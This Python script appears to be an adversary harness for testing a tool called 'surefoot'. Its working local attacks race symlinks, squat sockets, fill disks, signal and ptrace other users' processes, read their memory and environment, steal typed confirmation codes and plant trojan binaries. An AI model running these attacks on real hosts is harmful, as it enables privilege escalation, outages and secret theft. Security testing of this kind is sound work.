"""What another account does on a host, for as long as it is let. It runs there by itself.

usage: adversary.py ATTACK

It writes "ready" once it is at work, and a file into gains for whatever it has got.
"""
import ctypes
import glob
import os
import pathlib
import random
import re
import signal
import socket
import subprocess
import sys
import threading
import time

HOME = pathlib.Path(__file__).parent
SHARED = HOME / "shared"
TREASURE = "/mnt/treasure"
PROGRAM = "/mnt/program/surefoot"
OPEN_TO_ALL = (pathlib.Path("/tmp"), pathlib.Path("/dev/shm"), SHARED)
# So many connections a second to each socket.
RATE = 100
# More than these are not held open at a time.
HELD = 500
SQUATS = 1000
# What sshd takes is its own affair.
NOT_OURS = {22}
SAID = (b"disarm\n", b"yes\n", b"done\n", b"restore\n", b"{}\n", b"\n", b"", b"\xff" * 5000, b'{"record":"finished"}\n')
gained = set()
# What is to stay open.
kept = []


def gain(name, text):
    """Writes down what was got, once for each name."""
    if name not in gained:
        gained.add(name)
        (HOME / "gains" / re.sub(r"\W", "-", name)).write_text(str(text))


def for_ever(act, pause=0.0):
    """Does something again and again, whatever comes of it."""
    def goes_on():
        while True:
            try:
                act()
            except OSError:
                pass
            time.sleep(pause)
    threading.Thread(target=goes_on, daemon=True).start()


# MARK: Sockets


class Caller:
    """Connects to every socket that there is."""

    def __init__(self):
        self.held = []

    def addresses(self):
        for line in pathlib.Path("/proc/net/unix").read_text().splitlines()[1:]:
            words = line.split(maxsplit=7)
            if len(words) == 8 and not words[7].startswith("@squat") and "adversary" not in words[7]:
                yield socket.AF_UNIX, "\0" + words[7][1:] if words[7].startswith("@") else words[7]
        for path in glob.glob("/run/surefoot/*"):
            yield socket.AF_UNIX, path
        for name, family, host in (("tcp", socket.AF_INET, "127.0.0.1"), ("tcp6", socket.AF_INET6, "::1")):
            for line in pathlib.Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
                words = line.split()
                port = int(words[1].rpartition(":")[2], 16)
                if words[3] == "0A" and port not in NOT_OURS:
                    yield family, (host, port)

    def call_all(self):
        """One connection to each."""
        began = time.monotonic()
        for family, address in set(self.addresses()):
            self.call(family, address)
        while len(self.held) > HELD:
            self.held.pop(0).close()
        time.sleep(max(0, 1 / RATE - (time.monotonic() - began)))

    def call(self, family, address):
        caller = socket.socket(family, socket.SOCK_STREAM)
        caller.setblocking(False)
        try:
            caller.connect(address)
            caller.send(random.choice(SAID))
            self.held.append(caller)
            self.hear(random.choice(self.held), address)
        except OSError:
            caller.close()

    def hear(self, caller, address):
        """That something counts for nothing may be answered; all else is something that was got."""
        answer = caller.recv(1000)
        if answer and not answer.startswith(b"no "):
            gain(f"answer from {address}", answer)


def connections():
    for_ever(Caller().call_all)


def squats():
    """Names in the kernel that nobody owns, and those of files that are to be root's."""
    names = ["surefoot-timer", "surefoot-session", "surefoot"]
    names += [f"surefoot-confirm-{number}" for number in range(SQUATS)]
    for name in names:
        squat = socket.socket(socket.AF_UNIX)
        squat.bind("\0" + name)
        squat.listen(0)
        kept.append(squat)
    for_ever(take_places, 0.01)


def take_places():
    for path in ("/run/surefoot", "/var/lib/surefoot", "/etc/iptables", "/run", "/var/lib", "/etc", "/run/xtables.lock"):
        for name in ("squat", "session", "timer", *os.listdir(path if os.path.isdir(path) else "/proc/self/net")[:20]):
            place = f"{path}/{name}"
            try:
                os.symlink(TREASURE, place + ".squat")
                gain(f"a link at {place}", "")
            except OSError:
                pass
            try:
                open(place, "ab").close()
                gain(f"a file at {place}", "")
            except OSError:
                pass


# MARK: Files


def links():
    """Links in the place of all files that come and go where all may write, and before them."""
    plants = ["surefoot", "surefoot-session", "surefoot.yaml", "answers.yaml", "rules.v4", "rules.v6", "rules", "iptables",
              "nft", "curl", "tmp", "lock", "report.md", "report.json", ".surefoot"]
    for folder in OPEN_TO_ALL:
        for name in plants:
            os.symlink(TREASURE, folder / name)
    for_ever(replace_what_comes)


def replace_what_comes():
    for folder in OPEN_TO_ALL:
        for entry in os.scandir(folder):
            if not entry.is_symlink() and entry.stat(follow_symlinks=False).st_uid != os.getuid():
                gain(f"seen in {folder}: {entry.name}", "a file of root's where all may write")
                os.rename(entry.path, f"{entry.path}.taken")
                os.symlink(TREASURE, entry.path)


def full_folders():
    """No byte is left in what all may write."""
    for_ever(fill, 0.05)


def fill():
    for folder in (*OPEN_TO_ALL, pathlib.Path("/var/tmp")):
        with open(folder / f"fill-{os.getpid()}", "ab", buffering=0) as file:
            try:
                # The program itself lies in the same file system as the folder of both.
                while file.tell() < 8 << 20:
                    file.write(b"x" * 4096)
            except OSError:
                continue


# MARK: Processes

PTRACE_ATTACH = 16
libc = ctypes.CDLL(None, use_errno=True)


def signals():
    for_ever(disturb, 0.005)


def disturb():
    """All processes of others: ended, stopped, read and written."""
    for process in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if os.stat(f"/proc/{process}").st_uid == os.getuid():
            continue
        name = pathlib.Path(f"/proc/{process}/comm").read_text().strip()
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
                gain(f"signal to {name}", number)
            except OSError:
                pass
        for file in ("mem", "environ", "maps", "fd/3", "fd/0", "root/etc/shadow"):
            try:
                with open(f"/proc/{process}/{file}", "rb") as opened:
                    # What may not be looked at can be opened, and is empty.
                    text = opened.read(100)
                if text:
                    gain(f"{file} of {name}", text)
            except OSError:
                pass
        if libc.ptrace(PTRACE_ATTACH, process, 0, 0) == 0:
            gain(f"ptrace of {name}", "is attached")


def codes():
    """What the program itself can be asked to do, by who may not."""
    for_ever(overhear, 0.001)
    words = (["rollback", "--yes"], ["resume", "--take-over"], ["confirm", "00000"], ["guard", "--", "true"],
             ["run", "--no-input"])
    for_ever(lambda: command(random.choice(words)), 0.3)


def overhear():
    """A code that somebody types is on the command line, for all to read."""
    for file in glob.glob("/proc/[0-9]*/cmdline"):
        found = re.search(rb"confirm\0(\w{5})\0", pathlib.Path(file).read_bytes())
        if found and found[1] != b"00000":
            command(["confirm", found[1].decode()])


def command(words):
    ended = subprocess.run([PROGRAM, *words], cwd=SHARED, stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
    if ended.returncode == 0:
        gain("surefoot " + " ".join(words), ended.stdout + ended.stderr)


# MARK: What others are led to run or to read


def environment():
    """Programs, settings, extensions and a multiplexer, for whoever comes here by a variable of the environment."""
    for folder in ("bin", "lib", "terminfo/d", "locale", "nothing"):
        (HOME / folder).mkdir(parents=True, exist_ok=True)
    trap = f"#!/bin/sh\nid >{HOME}/gains/$(basename $0)-was-run\n"
    for name in ("iptables", "iptables-save", "iptables-restore", "ip6tables", "ip6tables-save", "nft", "curl", "nc", "ssh",
                 "tmux", "sh", "systemctl", "nsenter", "getent", "conntrack"):
        (HOME / "bin" / name).write_text(trap)
        (HOME / "bin" / name).chmod(0o755)
    (HOME / "run-me").write_text(f"id >{HOME}/gains/a-shell-has-read-this\n")
    (HOME / ".curlrc").write_text(f"output = {HOME}/gains/curlrc\ncreate-dirs\n")
    # A key that is bound to nothing would swallow what is typed.
    (HOME / ".editrc").write_text("bind -v\nbind -r d\nbind -r y\n")
    for name in ("libxt_conntrack.so", "libxt_standard.so", "libxt_tcp.so", "gconv-modules"):
        (HOME / "lib" / name).write_text("no library\n")
    door = socket.socket(socket.AF_UNIX)
    door.bind(str(HOME / "tmux.sock"))
    door.listen(5)
    os.chmod(HOME / "tmux.sock", 0o777)
    for_ever(lambda: gain("a call of the multiplexer", door.accept()))


def everything():
    for attack in (connections, squats, links, full_folders, signals, codes, environment):
        attack()


ATTACKS = {
    "connections": connections, "powerless-connections": connections, "squats": squats, "links": links,
    "full-folders": full_folders, "signals": signals, "codes": codes, "environment": environment, "everything": everything,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]]()
    (HOME / "ready").write_text("ready")
    while True:
        time.sleep(60)
